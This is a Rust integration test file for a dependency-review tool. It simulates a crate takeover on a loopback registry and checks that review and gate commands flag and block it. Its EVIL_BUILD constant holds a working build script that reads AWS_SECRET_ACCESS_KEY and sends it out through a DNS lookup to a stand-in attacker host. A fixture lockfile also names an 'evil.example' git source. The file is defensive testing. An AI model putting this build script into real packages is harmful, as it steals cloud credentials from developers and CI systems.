//! Fortify end to end: the takeover attack reproduced with a sparse registry on loopback that
//! the test creates, lockfiles written by real cargo, then `init`, `review` and `gate`.
//!
//! `rust-utilities-v2` 2.1.0 -> 2.1.1 adds `url-parse` 0.1.0, whose build script reads
//! `AWS_SECRET_ACCESS_KEY` and leaks it through a DNS lookup. The crates are written by this
//! test and never compiled or run.

mod common;

use common::*;
use std::path::Path;
use std::process::Command;

const NOW: &str = "2026-11-25T12:00:00Z";

struct Release {
    name: &'static str,
    version: &'static str,
    pubtime: &'static str,
    files: Vec<(&'static str, String)>,
}

const EVIL_BUILD: &str = r#"use std::net::ToSocketAddrs;

fn main() {
    let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();
    let label: String = key.bytes().map(|b| format!("{b:02x}")).collect();
    let _ = format!("{label}.exfil.attacker.invalid:53").to_socket_addrs();
    println!("cargo:rerun-if-changed=build.rs");
}
"#;

fn releases() -> Vec<Release> {
    let manifest = |name: &str, version: &str, deps: &str| {
        format!(
            "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\nlicense = \"MIT\"\ndescription = \"utilities\"\n{deps}"
        )
    };
    vec![
        Release {
            name: "rust-utilities-v2",
            version: "2.1.0",
            pubtime: "2024-02-01T10:00:00Z",
            files: vec![
                ("Cargo.toml", manifest("rust-utilities-v2", "2.1.0", "")),
                (
                    "src/lib.rs",
                    "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n".into(),
                ),
            ],
        },
        Release {
            name: "rust-utilities-v2",
            version: "2.1.1",
            pubtime: "2026-11-24T20:00:00Z",
            files: vec![
                (
                    "Cargo.toml",
                    manifest(
                        "rust-utilities-v2",
                        "2.1.1",
                        "\n[dependencies]\nurl-parse = \"0.1\"\n",
                    ),
                ),
                (
                    "src/lib.rs",
                    "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n\npub use url_parse::parse;\n"
                        .into(),
                ),
            ],
        },
        Release {
            name: "url-parse",
            version: "0.1.0",
            pubtime: "2026-11-24T19:30:00Z",
            files: vec![
                ("Cargo.toml", manifest("url-parse", "0.1.0", "")),
                ("build.rs", EVIL_BUILD.into()),
                (
                    "src/lib.rs",
                    "pub fn parse(s: &str) -> &str {\n    s\n}\n".into(),
                ),
            ],
        },
    ]
}

/// Serves a sparse registry holding `releases` on loopback (the drill's registry: index lines
/// read from each manifest); returns its URL.
fn registry(releases: &[Release]) -> String {
    let (url, server) = server();
    let published: Vec<reflex::drill::registry::Publish> = releases
        .iter()
        .map(|r| reflex::drill::registry::Publish {
            name: r.name.into(),
            version: r.version.into(),
            registry: None,
            files: r
                .files
                .iter()
                .map(|(p, t)| (p.to_string(), t.clone()))
                .collect(),
            pubtime: r.pubtime.into(),
        })
        .collect();
    server.publish(&published).unwrap();
    url
}

/// Runs real cargo against `registry` (replacing crates.io), with its own empty CARGO_HOME.
fn cargo(ws: &Path, home: &Path, registry: &str, args: &[&str]) {
    std::fs::create_dir_all(home).unwrap();
    std::fs::write(
        home.join("config.toml"),
        format!(
            "[source.crates-io]\nreplace-with = \"local\"\n\n[source.local]\nregistry = \"sparse+{registry}\"\n"
        ),
    )
    .unwrap();
    let out = Command::new(std::env::var("CARGO").unwrap_or_else(|_| "cargo".into()))
        .args(args)
        .current_dir(ws)
        .env("CARGO_HOME", home)
        .env_remove("CARGO_TARGET_DIR")
        .env("CARGO_NET_RETRY", "0")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "cargo {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn reflex(ws: &Path, registry: &str, args: &[&str]) -> Run {
    let mut all = args.to_vec();
    all.extend([
        "--now",
        NOW,
        "--cargo-home",
        "reflex-cargo-home",
        "--no-fetch",
    ]);
    run_with(
        ws,
        &all,
        &[("CARGO_REFLEX_CRATES_IO_INDEX", registry)],
        None,
    )
}

fn signals<'a>(report: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    report["review"]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("no change for {name}: {report:#}"))
}

#[test]
fn takeover_bump_is_explained_by_review_and_blocked_by_gate_until_reverted() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    std::fs::create_dir_all(ws.join("src")).unwrap();
    std::fs::write(
        ws.join("Cargo.toml"),
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\npublish = false\n\n[dependencies]\nrust-utilities-v2 = \"2.1\"\n",
    )
    .unwrap();
    std::fs::write(ws.join("src/main.rs"), "fn main() {}\n").unwrap();
    std::fs::write(
        ws.join(".gitignore"),
        "/target\n/__home\n/__cache\n/reflex-cargo-home\n",
    )
    .unwrap();

    // Before: the registry has only 2.1.0; cargo writes the lockfile; it is committed.
    let all = releases();
    let before = registry(&all[..1]);
    cargo(
        &ws,
        &tmp.path().join("home-before"),
        &before,
        &["generate-lockfile"],
    );
    let lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
    assert!(
        lock.contains("name = \"rust-utilities-v2\"\nversion = \"2.1.0\""),
        "{lock}"
    );
    let full = registry(&all);

    // init: today's graph becomes the baseline; the gate passes on it.
    let init = reflex(&ws, &full, &["init"]);
    assert_eq!(init.code, 0, "{}{}", init.stdout, init.stderr);
    assert!(init.stderr.contains("wrote "), "{}", init.stderr);
    let policy = std::fs::read_to_string(ws.join("reflex.toml")).unwrap();
    assert!(policy.contains("min-age-days = 3") && policy.contains("require-approval = true"));
    git(&ws, &["init", "-q", "-b", "main"]);
    git(&ws, &["add", "-A"]);
    git(
        &ws,
        &["commit", "-q", "-m", "app at rust-utilities-v2 2.1.0"],
    );
    let pass = reflex(&ws, &full, &["gate", "--format", "json"]);
    assert_eq!(
        pass.code, 0,
        "the baseline passes: {}{}",
        pass.stdout, pass.stderr
    );

    // The bump: the registry now has 2.1.1, which depends on url-parse.
    cargo(
        &ws,
        &tmp.path().join("home-after"),
        &full,
        &["update", "-p", "rust-utilities-v2"],
    );
    let lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
    assert!(lock.contains("name = \"url-parse\""), "{lock}");

    // review explains it.
    let review = reflex(&ws, &full, &["review", "--format", "json"]);
    assert_eq!(
        review.code, 1,
        "what arrives is high risk: {}",
        review.stderr
    );

    let report = json(&review);
    assert_valid_report(&report);
    insta::assert_json_snapshot!("review_json", report);
    insta::assert_snapshot!("review_human", reflex(&ws, &full, &["review"]).stdout);
    let changes = report["review"]["changes"].as_array().unwrap();
    assert_eq!(changes.len(), 2, "{changes:#?}");
    assert_eq!(changes[0]["name"], "url-parse", "worst first: {changes:#?}");
    assert_eq!(
        changes[0]["risk"], "critical",
        "a new build script that reads secrets and can reach the network: {changes:#?}"
    );
    let utils = signals(&report, "rust-utilities-v2");
    assert_eq!(utils["kind"], "upgraded");
    assert_eq!(utils["bump"], "patch");
    assert_eq!(utils["introduces"][0], "url-parse 0.1.0");
    let parse = signals(&report, "url-parse");
    assert_eq!(parse["kind"], "added");
    assert_eq!(parse["moved_by"][0], "rust-utilities-v2 2.1.0 -> 2.1.1");
    assert_eq!(parse["age_days"], 0);
    let parse_signals: Vec<&str> = parse["signals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap())
        .collect();
    for code in [
        "build-time-secret-read",
        "review-build-script-added",
        "review-version-young",
        "review-new-crate",
    ] {
        assert!(parse_signals.contains(&code), "{code} in {parse_signals:?}");
    }
    let diff = &parse["code"]["diffs"][0];
    assert_eq!(diff["path"], "build.rs");
    assert!(
        diff["unified"]
            .as_str()
            .unwrap()
            .contains("+    let key = std::env::var(\"AWS_SECRET_ACCESS_KEY\")"),
        "{diff:#}"
    );
    assert_eq!(
        utils["code"]["files_changed"][1]["path"], "src/lib.rs",
        "{utils:#}"
    );
    let titles = report["findings"].to_string();
    assert!(
        titles.contains(
            "url-parse 0.1.0 enters the graph, added by rust-utilities-v2 2.1.0 -> 2.1.1"
        ),
        "{titles}"
    );

    // The Markdown is a PR comment: the change table, then the build script diff.
    let md = reflex(&ws, &full, &["review", "--format", "markdown"]).stdout;
    assert!(
        md.contains(
            "| `rust-utilities-v2 2.1.0 -> 2.1.1` | upgraded (patch) | adds url-parse 0.1.0"
        ),
        "{md}"
    );
    assert!(
        md.contains("```diff") && md.contains("AWS_SECRET_ACCESS_KEY"),
        "{md}"
    );

    // gate with the policy from init fails, with the reasons.
    let gate = reflex(&ws, &full, &["gate", "--base", "HEAD", "--format", "json"]);
    assert_eq!(gate.code, 1, "{}{}", gate.stdout, gate.stderr);
    let report = json(&gate);
    assert_valid_report(&report);
    let sarif = reflex(&ws, &full, &["gate", "--base", "HEAD", "--format", "sarif"]);
    assert_valid_sarif(&sarif.stdout);
    insta::assert_snapshot!(
        "gate_human",
        reflex(&ws, &full, &["gate", "--base", "HEAD", "-q"]).stdout
    );
    let denied: Vec<(String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["denied"] == true)
        .map(|f| {
            (
                f["code"].as_str().unwrap().to_string(),
                f["package"]["name"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    for (code, name) in [
        ("build-script-not-approved", "url-parse"),
        ("cooldown-too-young", "url-parse"),
        ("cooldown-too-young", "rust-utilities-v2"),
        ("build-time-secret-read", "url-parse"),
        ("review-build-script-added", "url-parse"),
    ] {
        assert!(
            denied.contains(&(code.to_string(), name.to_string())),
            "{code} {name} in {denied:?}"
        );
    }
    assert_eq!(report["policy"]["path"], "reflex.toml");
    let annotations = reflex(&ws, &full, &["gate", "--format", "github"]);
    assert_eq!(annotations.code, 1);
    assert!(
        annotations
            .stdout
            .lines()
            .any(|l| l.starts_with("::error file=Cargo.lock,line=") && l.contains("url-parse")),
        "{}",
        annotations.stdout
    );

    // No self-approval: the same change adding trust records for itself is still denied,
    // and says what it tried.
    let base_policy = std::fs::read_to_string(ws.join("reflex.toml")).unwrap();
    let approve = "\n[[trust]]\ncrate = \"url-parse\"\nversion = \"0.1.0\"\nby = \"mallory\"\n\n[[trust]]\ncrate = \"rust-utilities-v2\"\nversion = \"2.1.1\"\nby = \"mallory\"\n\n[cooldown]\nmin-age-days = 0\n";
    let loosened_policy = base_policy.replace("min-age-days = 3", "min-age-days = 0");
    let approve = approve.replace("\n[cooldown]\nmin-age-days = 0\n", "");
    std::fs::write(
        ws.join("reflex.toml"),
        format!("{loosened_policy}{approve}"),
    )
    .unwrap();
    let selfish = reflex(&ws, &full, &["gate", "--base", "HEAD", "--format", "json"]);
    assert_eq!(selfish.code, 1, "{}{}", selfish.stdout, selfish.stderr);
    let report = json(&selfish);
    let findings = report["findings"].as_array().unwrap();
    let loosened = findings
        .iter()
        .find(|f| f["code"] == "policy-loosened")
        .unwrap_or_else(|| panic!("no policy-loosened: {report:#}"));
    assert_eq!(loosened["denied"], true);
    let evidence = loosened["evidence"].to_string();
    for what in [
        "new trust record: url-parse@0.1.0 by mallory",
        "new trust record: rust-utilities-v2@2.1.1 by mallory",
        "cooldown shortened from 3 to 0 days",
    ] {
        assert!(evidence.contains(what), "{what}: {evidence}");
    }
    assert!(
        findings
            .iter()
            .any(|f| f["code"] == "build-script-not-approved"
                && f["package"]["name"] == "url-parse"
                && f["denied"] == true),
        "the change's own trust record does not clear it: {report:#}"
    );
    // Approved the way the README says: the policy lands first in its own reviewed commit;
    // the change is then judged by it.
    git(&ws, &["add", "reflex.toml"]);
    git(&ws, &["commit", "-q", "-m", "approve url-parse 0.1.0"]);
    let approved = reflex(&ws, &full, &["gate", "--base", "HEAD", "--format", "json"]);
    assert_eq!(approved.code, 0, "{}{}", approved.stdout, approved.stderr);
    assert!(!approved.stdout.contains("policy-loosened"));
    git(&ws, &["reset", "-q", "--hard", "HEAD~1"]);
    cargo(
        &ws,
        &tmp.path().join("home-after"),
        &full,
        &["update", "-p", "rust-utilities-v2"],
    );

    // Reverted: the gate passes again.
    git(&ws, &["checkout", "--", "Cargo.lock"]);
    let reverted = reflex(&ws, &full, &["gate", "--base", "HEAD", "--format", "json"]);
    assert_eq!(reverted.code, 0, "{}{}", reverted.stdout, reverted.stderr);
    assert_eq!(
        json(&reverted)["review"]["changes"]
            .as_array()
            .unwrap()
            .len(),
        0
    );
}

fn yaml(text: &str) -> saphyr::YamlOwned {
    use saphyr::LoadableYamlNode;
    saphyr::YamlOwned::load_from_str(text)
        .unwrap()
        .into_iter()
        .next()
        .unwrap()
}

#[test]
fn init_hardened_files_parse_back_and_pass_our_own_checks() {
    let tmp = takeover();
    let ws = tmp.path().join("ws");
    let emit = |what: &str, extra: &[&str]| {
        let mut a = vec!["init", "--offline", "--emit", what];
        a.extend_from_slice(extra);
        let r = run(&ws, &a);
        assert_eq!(r.code, 0, "{}", r.stderr);
        r.stdout
    };

    // .cargo/config.toml: valid TOML with the registry, the mirror and no tokens.
    let config = emit(
        "cargo-config",
        &[
            "--internal-prefix",
            "acme-",
            "--registry-url",
            "sparse+https://crates.acme.example/index/",
            "--mirror-url",
            "sparse+https://mirror.acme.example/index/",
        ],
    );
    let parsed: toml::Table = toml::from_str(&config).unwrap();
    assert_eq!(
        parsed["registries"]["internal"]["index"].as_str(),
        Some("sparse+https://crates.acme.example/index/")
    );
    assert_eq!(
        parsed["source"]["crates-io"]["replace-with"].as_str(),
        Some("mirror")
    );
    assert!(config.contains("acme-name = { version = \"...\", registry = \"internal\" }"));

    // The CI workflow: YAML that our own CI lint finds fully locked and secret-free.
    let ci = emit("ci", &[]);
    let doc = yaml(&ci);
    let steps = doc["jobs"]["build"]["steps"].as_vec().unwrap();
    let runs: Vec<&str> = steps
        .iter()
        .filter_map(|s| s.as_mapping_get("run").and_then(|r| r.as_str()))
        .collect();
    assert!(runs.iter().any(|r| r.starts_with("cargo fetch --locked")));
    // Build and test go through `cargo reflex build`, whose stage 2 is `--offline --locked`.
    let builds: Vec<&str> = runs
        .iter()
        .flat_map(|r| r.lines())
        .filter(|l| l.trim_start().starts_with("cargo reflex build"))
        .collect();
    assert_eq!(builds.len(), 2, "build and test: {runs:#?}");
    for line in builds {
        let command = if line.contains("--cargo test") {
            "test"
        } else {
            "build"
        };
        let plan = run(
            &ws,
            &["build", "--dry-run", "--no-fetch", "--cargo", command],
        );
        assert_eq!(plan.code, 0, "{}", plan.stderr);
        assert!(
            plan.stdout
                .lines()
                .any(|l| l.trim_start().starts_with("command:")
                    && l.ends_with(&format!("{command} --offline --locked"))),
            "{}",
            plan.stdout
        );
    }
    assert_eq!(
        doc["jobs"]["build"]["permissions"]["contents"].as_str(),
        Some("read")
    );

    // The NetworkPolicy: egress to DNS and the registry only.
    let np = emit("network-policy", &["--registry-cidr", "10.20.0.0/24"]);
    let doc = yaml(&np);
    assert_eq!(doc["kind"].as_str(), Some("NetworkPolicy"));
    let egress = doc["spec"]["egress"].as_vec().unwrap();
    assert_eq!(egress.len(), 2);
    let ports: Vec<i64> = egress
        .iter()
        .flat_map(|e| {
            e["ports"]
                .as_vec()
                .unwrap()
                .iter()
                .filter_map(|p| p["port"].as_integer())
        })
        .collect();
    assert_eq!(ports, vec![53, 53, 443]);
    assert!(np.contains("cidr: 10.20.0.0/24"));

    // Written into the workspace, the audit has nothing to say about them. An existing file
    // stops init before it writes anything.
    let refused = run(&ws, &["init", "--offline", "--write-hardened"]);
    assert_eq!(refused.code, 2);
    assert!(
        refused.stderr.contains(".cargo/config.toml exists"),
        "{}",
        refused.stderr
    );
    assert!(!ws.join("reflex.toml").exists(), "nothing written");
    std::fs::remove_file(ws.join(".cargo/config.toml")).unwrap();
    let w = run(
        &ws,
        &[
            "init",
            "--offline",
            "--write-hardened",
            "--mirror-url",
            "sparse+https://mirror.acme.example/index/",
        ],
    );
    assert!(w.stderr.contains("wrote "), "{}", w.stderr);
    assert!(ws.join(".github/workflows/reflex-build.yml").is_file());
    let audit = json(&run(
        &ws,
        &["audit", "--offline", "--format", "json", "--no-yanked"],
    ));
    let ours: Vec<&serde_json::Value> = audit["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| {
            let path = f["location"]["path"].as_str().unwrap_or("");
            path.ends_with("reflex-build.yml") || path.ends_with(".cargo/config.toml")
        })
        .filter(|f| f["code"] != "cargo-config-source-replacement")
        .collect();
    assert!(ours.is_empty(), "{ours:#?}");
    assert!(
        audit["findings"].to_string().contains("reflex-build.yml")
            || audit["ci"]["files"].as_u64().unwrap() >= 1,
        "the workflow was linted"
    );
    // Alone in a clean project, the workflow is fully locked and has nothing to report.
    let clean = tempfile::tempdir().unwrap();
    copy_dir(&fixture("scenarios/hardened"), clean.path());
    std::fs::create_dir_all(clean.path().join(".github/workflows")).unwrap();
    std::fs::write(clean.path().join(".github/workflows/reflex-build.yml"), &ci).unwrap();
    let audit = json(&run(
        clean.path(),
        &["audit", "--offline", "--format", "json", "--no-yanked"],
    ));
    assert_eq!(audit["ci"]["locked_percent"], 100.0, "{:#}", audit["ci"]);
    assert!(
        !codes(&audit).iter().any(|c| c.starts_with("ci-")),
        "{:?}",
        codes(&audit)
    );
    // The policy it wrote parses back, and init does not overwrite without --force.
    let again = run(&ws, &["init", "--offline"]);
    assert_eq!(again.code, 2);
    assert!(
        again.stderr.contains("exists") && again.stderr.contains("--force"),
        "{}",
        again.stderr
    );
}

#[test]
fn gate_policy_rules_sources_git_licenses_and_exceptions() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp
        .path()
        .join("home/registry/cache/index.crates.io-1949cf8c6b5b557f");
    std::fs::create_dir_all(&cache).unwrap();
    let mut lock = String::from(
        "version = 4\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"gpl-thing\", \"dual\", \"nolicense\", \"internal-utils\", \"gitpinned\", \"gitbranch\", \"gitother\"]\n",
    );
    for (name, license) in [
        ("gpl-thing", Some("GPL-3.0-only")),
        ("dual", Some("MIT OR Apache-2.0")),
        ("nolicense", None),
    ] {
        let manifest = format!(
            "[package]\nname = \"{name}\"\nversion = \"1.0.0\"\n{}",
            license
                .map(|l| format!("license = \"{l}\"\n"))
                .unwrap_or_default()
        );
        let (bytes, sum) = crate_archive(
            name,
            "1.0.0",
            &[("Cargo.toml", &manifest), ("src/lib.rs", "")],
        );
        std::fs::write(cache.join(format!("{name}-1.0.0.crate")), bytes).unwrap();
        lock.push_str(&format!(
            "\n[[package]]\nname = \"{name}\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{sum}\"\n"
        ));
    }
    for (name, source) in [
        ("internal-utils", "sparse+http://127.0.0.1:9/index/"),
        (
            "gitpinned",
            "git+https://github.com/acme/a?rev=0123456#0123456789abcdef0123456789abcdef01234567",
        ),
        (
            "gitbranch",
            "git+https://github.com/acme/b?branch=main#0123456789abcdef0123456789abcdef01234567",
        ),
        (
            "gitother",
            "git+https://evil.example/c#0123456789abcdef0123456789abcdef01234567",
        ),
    ] {
        lock.push_str(&format!(
            "\n[[package]]\nname = \"{name}\"\nversion = \"1.0.0\"\nsource = \"{source}\"\n"
        ));
    }
    std::fs::write(tmp.path().join("Cargo.lock"), lock).unwrap();
    std::fs::write(
        tmp.path().join("policy.toml"),
        r#"version = 1
[sources]
allow-registries = ["crates-io"]
git = "pinned"
allow-git = ["https://github.com/acme/"]

[licenses]
allow = ["MIT", "Apache-2.0"]
unknown = "deny"

[[exception]]
code = "license-not-allowed"
crate = "gpl-thing"
reason = "legal approved the GPL for this internal tool"
expires = 2027-01-01

[[exception]]
code = "yanked"
crate = "nothing"
reason = "left over"
"#,
    )
    .unwrap();
    let gate = |now: &str| {
        let r = run(
            tmp.path(),
            &[
                "gate",
                "--file",
                "Cargo.lock",
                "--policy",
                "policy.toml",
                "--offline",
                "--cargo-home",
                "home",
                "--now",
                now,
                "--format",
                "json",
            ],
        );
        assert_eq!(r.code, 1, "{}", r.stderr);
        let report = json(&r);
        assert_valid_report(&report);
        let found: Vec<(String, String, bool)> = report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                (
                    f["code"].as_str().unwrap().to_string(),
                    f["package"]["name"].as_str().unwrap_or("").to_string(),
                    f["denied"].as_bool().unwrap(),
                )
            })
            .collect();
        (report, found)
    };
    let (report, found) = gate("2026-11-25");
    let has = |found: &[(String, String, bool)], code: &str, name: &str, denied: bool| {
        found.contains(&(code.into(), name.into(), denied))
    };
    assert!(
        has(&found, "source-not-allowed", "internal-utils", true),
        "{found:#?}"
    );
    assert!(has(&found, "source-not-allowed", "gitother", true));
    assert!(
        has(&found, "git-dependency-unpinned", "gitbranch", true),
        "git = pinned denies it"
    );
    assert!(
        !found.iter().any(|f| f.1 == "gitpinned"),
        "pinned git is fine: {found:#?}"
    );
    assert!(
        has(&found, "license-unknown", "nolicense", true),
        "unknown = deny"
    );
    assert!(
        !found
            .iter()
            .any(|f| f.0.starts_with("license") && (f.1 == "dual" || f.1 == "gpl-thing")),
        "{found:#?}"
    );
    assert!(
        found
            .iter()
            .any(|f| f.0 == "policy-exception-unused" && !f.2)
    );
    assert_eq!(report["summary"]["excepted"], 1);
    assert_eq!(report["policy"]["path"], "policy.toml");

    // After its expiry date the exception no longer applies, and says so.
    let (_, found) = gate("2027-02-01");
    assert!(
        has(&found, "license-not-allowed", "gpl-thing", true),
        "{found:#?}"
    );
    assert!(found.iter().any(|f| f.0 == "policy-exception-expired"));
}

/// A commit of this repository, standing for the one a user pins.
const REFLEX_REV: &str = "13dd8db57823f80fbb86fd0475046d32f86a8e29";

/// Runs zizmor (offline; the auditor persona, which reports everything it can find) on a
/// workflow: None when zizmor is not installed.
fn zizmor(path: &Path) -> Option<(i32, String)> {
    let out = Command::new("zizmor")
        .args(["--offline", "--persona=auditor", "--no-progress"])
        .arg(path)
        .output()
        .ok()?;
    Some((
        out.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    ))
}

#[test]
fn init_ci_workflow_pins_everything_and_passes_zizmor_and_our_ci_lint() {
    let tmp = takeover();
    let ws = tmp.path().join("ws");
    let emitted = run(&ws, &["init", "--emit", "ci", "--reflex-rev", REFLEX_REV]);
    assert_eq!(emitted.code, 0, "{}", emitted.stderr);
    let ci = emitted.stdout;
    insta::assert_snapshot!("init_ci_workflow", ci);

    // Every action pinned to a full commit with its version beside it; each pin is one a real
    // project of the corpus uses.
    let uses: Vec<&str> = ci
        .lines()
        .filter_map(|l| {
            l.trim_start()
                .trim_start_matches("- ")
                .strip_prefix("uses: ")
        })
        .collect();
    assert_eq!(uses.len(), 3, "{uses:?}");
    for u in &uses {
        assert!(
            reflex::init::PINNED_ACTIONS.iter().any(|p| *u == p.uses()),
            "{u}"
        );
    }
    for p in reflex::init::PINNED_ACTIONS {
        assert!(reflex::init::is_commit(p.sha), "{p:?}");
        let source = std::fs::read_to_string(fixture("corpus").join(p.source)).unwrap();
        let repo_name: String = p.name.split('/').take(2).collect::<Vec<_>>().join("/");
        assert!(
            source.contains(&format!("@{} # {}", p.sha, p.version))
                && source.contains(&format!("uses: {repo_name}")),
            "{p:?} is not pinned so in {}",
            p.source
        );
    }

    // Credentials, token, install: what we preach.
    let doc = yaml(&ci);
    assert!(doc["permissions"].as_mapping().unwrap().is_empty());
    let job = &doc["jobs"]["build"];
    assert_eq!(job["permissions"].as_mapping().unwrap().len(), 1);
    assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
    let steps = job["steps"].as_vec().unwrap();
    assert_eq!(
        steps[0]["with"]["persist-credentials"].as_bool(),
        Some(false)
    );
    assert_eq!(doc["env"]["CARGO_REFLEX_REV"].as_str(), Some(REFLEX_REV));
    assert!(ci.contains(&format!(
        "cargo install --locked --git {} --rev \"$CARGO_REFLEX_REV\"",
        reflex::init::REPOSITORY
    )));
    assert!(!ci.contains("cargo install --locked cargo-reflex"));
    let runs: Vec<&str> = steps
        .iter()
        .filter_map(|s| s.as_mapping_get("run").and_then(|r| r.as_str()))
        .collect();
    assert!(runs.iter().all(|r| !r.contains("${{")), "{runs:#?}");
    assert!(runs.iter().any(|r| r.contains("cargo reflex gate --locked --base \"$BASE_SHA\" --format github --summary \"$GITHUB_STEP_SUMMARY\"")));
    assert!(
        runs.iter()
            .any(|r| r.contains("sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0"))
    );

    // zizmor: no findings.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join(".github/workflows/reflex-build.yml");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, &ci).unwrap();
    match zizmor(&file) {
        Some((code, out)) => {
            assert_eq!(code, 0, "zizmor:\n{out}");
            assert!(out.contains("No findings"), "{out}");
        }
        None => {
            let _ = std::io::Write::write_all(
                &mut std::io::stderr(),
                b"SKIPPED: zizmor is not installed (pip install zizmor); the generated workflow was not checked by it\n",
            );
        }
    }

    // Our own CI lint, on a project holding it: nothing to report, every cargo call locked.
    let clean = tempfile::tempdir().unwrap();
    copy_dir(&fixture("scenarios/hardened"), clean.path());
    std::fs::remove_dir_all(clean.path().join(".github")).unwrap();
    std::fs::create_dir_all(clean.path().join(".github/workflows")).unwrap();
    std::fs::write(clean.path().join(".github/workflows/reflex-build.yml"), &ci).unwrap();
    let audit = json(&run(
        clean.path(),
        &["audit", "--offline", "--format", "json", "--no-yanked"],
    ));
    assert_eq!(audit["ci"]["files"], 1);
    assert_eq!(audit["ci"]["locked_percent"], 100.0, "{:#}", audit["ci"]);
    assert!(
        !codes(&audit).iter().any(|c| c.starts_with("ci-")),
        "{:#?}",
        audit["findings"]
    );
}

/// The generated install step, run by bash as the runner would, with a stand-in cargo that
/// records what it is asked.
fn run_install_step(ci: &str, rev: &str) -> (i32, String, String) {
    let doc = yaml(ci);
    let step = doc["jobs"]["build"]["steps"]
        .as_vec()
        .unwrap()
        .iter()
        .find(|s| s["name"].as_str() == Some("Install cargo-reflex from its pinned commit"))
        .unwrap()
        .clone();
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("cargo.log");
    std::fs::create_dir_all(dir.path().join("bin")).unwrap();
    let cargo = dir.path().join("bin/cargo");
    std::fs::write(
        &cargo,
        format!("#!/bin/sh\necho \"$*\" >> '{}'\n", log.display()),
    )
    .unwrap();
    Command::new("chmod")
        .arg("+x")
        .arg(&cargo)
        .status()
        .unwrap();
    std::fs::write(dir.path().join("step.sh"), step["run"].as_str().unwrap()).unwrap();
    let out = Command::new("bash")
        .args(["--noprofile", "--norc", "-eo", "pipefail"])
        .arg(dir.path().join("step.sh"))
        .env_clear()
        .env(
            "PATH",
            format!(
                "{}:{}",
                dir.path().join("bin").display(),
                std::env::var("PATH").unwrap_or_default()
            ),
        )
        .env("HOME", dir.path())
        .env("CARGO_REFLEX_REV", rev)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .replace(&dir.path().display().to_string(), "~"),
    )
}

#[test]
fn init_ci_workflow_installs_only_a_full_commit() {
    let tmp = takeover();
    let ws = tmp.path().join("ws");
    // Pinned: cargo install from the repository at that commit, with its lockfile.
    let ci = run(&ws, &["init", "--emit", "ci", "--reflex-rev", REFLEX_REV]).stdout;
    let (code, _, cargo) = run_install_step(&ci, REFLEX_REV);
    assert_eq!(code, 0);
    assert_eq!(
        cargo.trim(),
        format!(
            "install --locked --git {} --rev {REFLEX_REV} --root ~/.cargo-reflex cargo-reflex",
            reflex::init::REPOSITORY
        )
    );

    // Unknown commit: a placeholder the install step refuses, saying what to do.
    let unknown = run(&ws, &["init", "--emit", "ci"]);
    assert_eq!(unknown.code, 0, "{}", unknown.stderr);
    assert!(
        unknown.stderr.contains("--reflex-rev"),
        "{}",
        unknown.stderr
    );
    assert!(unknown.stdout.contains(reflex::init::REV_PLACEHOLDER));
    let (code, stdout, cargo) = run_install_step(&unknown.stdout, reflex::init::REV_PLACEHOLDER);
    assert_eq!(code, 1);
    assert!(cargo.is_empty(), "nothing installed: {cargo}");
    assert!(
        stdout.contains("::error title=cargo-reflex::set CARGO_REFLEX_REV"),
        "{stdout}"
    );

    // A branch or tag can move: refused.
    let branch = run(&ws, &["init", "--emit", "ci", "--reflex-rev", "main"]);
    assert_eq!(branch.code, 2);
    assert!(
        branch.stderr.contains("not a full commit SHA"),
        "{}",
        branch.stderr
    );
}

/// Real cargo with the given cargo home (its crates.io is the loopback registry); the output.
fn real_cargo(ws: &Path, home: &Path, args: &[&str]) -> std::process::Output {
    Command::new(std::env::var("CARGO").unwrap_or_else(|_| "cargo".into()))
        .args(args)
        .current_dir(ws)
        .env("CARGO_HOME", home)
        .env_remove("CARGO_TARGET_DIR")
        .env_remove("CARGO_REGISTRY_DEFAULT")
        .env("CARGO_NET_RETRY", "0")
        .output()
        .unwrap()
}

fn ok(out: std::process::Output, what: &str) -> String {
    assert!(
        out.status.success(),
        "{what}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn regression_write_hardened_keeps_the_default_registry_and_cargo_add_works() {
    // crates.io's stand-in and a private registry (`internal/`) on loopback.
    let (url, server) = server();
    let mut all = releases();
    all.truncate(1);
    let mut published: Vec<reflex::drill::registry::Publish> = all
        .iter()
        .map(|r| reflex::drill::registry::Publish {
            name: r.name.into(),
            version: r.version.into(),
            registry: None,
            files: r
                .files
                .iter()
                .map(|(p, t)| (p.to_string(), t.clone()))
                .collect(),
            pubtime: r.pubtime.into(),
        })
        .collect();
    for (name, registry) in [("text-tidy", None), ("acme-utils", Some("internal"))] {
        published.push(reflex::drill::registry::Publish {
